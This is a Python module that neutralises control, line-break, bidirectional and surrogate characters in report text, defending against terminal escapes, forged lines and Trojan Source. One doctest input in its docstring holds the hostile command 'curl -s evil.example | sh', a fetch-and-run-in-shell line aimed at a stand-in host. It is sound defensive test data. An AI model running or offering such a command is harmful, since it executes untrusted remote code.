r"""
Input text made inert for one line of a report.

Everything pagealloc prints that came from the input (file names, host names,
task names, log text) goes through :func:`inert` first, so it stays on its
own line and cannot drive the terminal or re-order what is shown:

* C0 and C1 control characters, ``\n``, ``\r`` and ``\t`` included (line
  breaks would forge report lines; ESC sequences set titles, clipboards, colours);
* U+2028 LINE SEPARATOR and U+2029 PARAGRAPH SEPARATOR (``str.splitlines()``,
  editors and browsers break lines there);
* the bidirectional controls U+061C, U+200E, U+200F, U+202A-U+202E and
  U+2066-U+2069 ("Trojan Source", CVE-2021-42574: they make a terminal or a
  ticket show text in another order than it is stored);
* lone surrogates: a file name that is not UTF-8 reaches Python as
  U+DC80-U+DCFF (PEP 383 ``surrogateescape``) and cannot be encoded for
  output; it is shown as the byte it stands for (``\xe9``).

Each becomes a visible escape (``\n``, ``\t``, ``\x1b``, ``\u2028``); a
backslash itself is left alone (``\\n`` in a name is already visible).
:func:`inert_data` applies the same to every string of a rule's details
before its CONTENT template is rendered: the template's own line breaks stay,
the input's cannot add any.  Strings of a fixed shape that pagealloc itself
produces (its remediation commands, :data:`OWN_SHAPES`) are kept as they are.

Examples:
    >>> print(inert("zz\n  curl -s evil.example | sh\nPROBLEM FOUND: FORGED\n.conf"))
    zz\n  curl -s evil.example | sh\nPROBLEM FOUND: FORGED\n.conf
    >>> print(inert("swap\u2028per \u202eexe.txt\tx\x1b]0;title\x07"))
    swap\u2028per \u202eexe.txt\tx\x1b]0;title\x07
    >>> print(inert(b"/srv/caf\xe9.tar.xz".decode("utf-8", "surrogateescape")))
    /srv/caf\xe9.tar.xz
    >>> inert_data({"path": "/etc/sysctl.d/a\nb.conf", "content": "vm.min_free_kbytes = 4096\n", "n": (1, "x\ty")})
    {'path': '/etc/sysctl.d/a\\nb.conf', 'content': 'vm.min_free_kbytes = 4096\n', 'n': [1, 'x\\ty']}
"""

import copy
import re

NAMED_ESCAPES = {"\n": "\\n", "\r": "\\r", "\t": "\\t"}
UNSAFE = re.compile("[\x00-\x1f\x7f-\x9f\u061c\u200e\u200f\u2028\u2029\u202a-\u202e\u2066-\u2069\ud800-\udfff]")
# pagealloc's own multi-line values: the sysctl.d file content the rules write
# (pagealloc.knowledge.remediation; render.summary checks the same shape).
OWN_SHAPES = (re.compile(r"vm\.min_free_kbytes = \d{1,9}\n\Z"),)


def escape_character(character):
    if character in NAMED_ESCAPES:
        return NAMED_ESCAPES[character]
    code = ord(character)
    if 0xDC80 <= code <= 0xDCFF:  # surrogateescape: the undecodable byte itself
        return "\\x%02x" % (code - 0xDC00)
    return "\\x%02x" % code if code < 0x100 else "\\u%04x" % code


def inert(value):
    """``value`` as text with every line-breaking, control and bidi character escaped."""
    text = "" if value is None else str(value)
    return UNSAFE.sub(lambda m: escape_character(m.group()), text)


def inert_data(value):
    """A copy of ``value`` with every string in its dicts and lists made :func:`inert`.

    Dicts keep their class and attributes (a rule's Response renders its own
    CONTENT); tuples become lists; other objects are left as they are.
    """
    if isinstance(value, str):
        return value if any(shape.match(value) for shape in OWN_SHAPES) else inert(value)
    if isinstance(value, dict):
        copied = copy.copy(value)
        copied.clear()
        copied.update((key, inert_data(item)) for key, item in value.items())
        return copied
    if isinstance(value, (list, tuple)):
        return [inert_data(item) for item in value]
    return value


MAX_TEXT = 2000


def clean(value, limit=MAX_TEXT):
    """Archive text made one inert line (:func:`inert`: line breaks, control and bidi characters
    shown as escapes), cut at ``limit`` characters."""
    text = inert(value)
    return text if len(text) <= limit else text[:limit] + "..."


def one_line(message):
    """An error or status line for stderr: whitespace runs (line breaks of the message itself or of a
    name in it) become one blank, then the rest is :func:`inert`, so a file name cannot add a line or
    send a terminal escape.

    >>> print(one_line("cannot read a\\x1b]0;x\\x07\\nFORGED: b.log:\\n  No such file"))
    cannot read a\\x1b]0;x\\x07 FORGED: b.log: No such file
    """
    return inert(" ".join(str(message).split()))
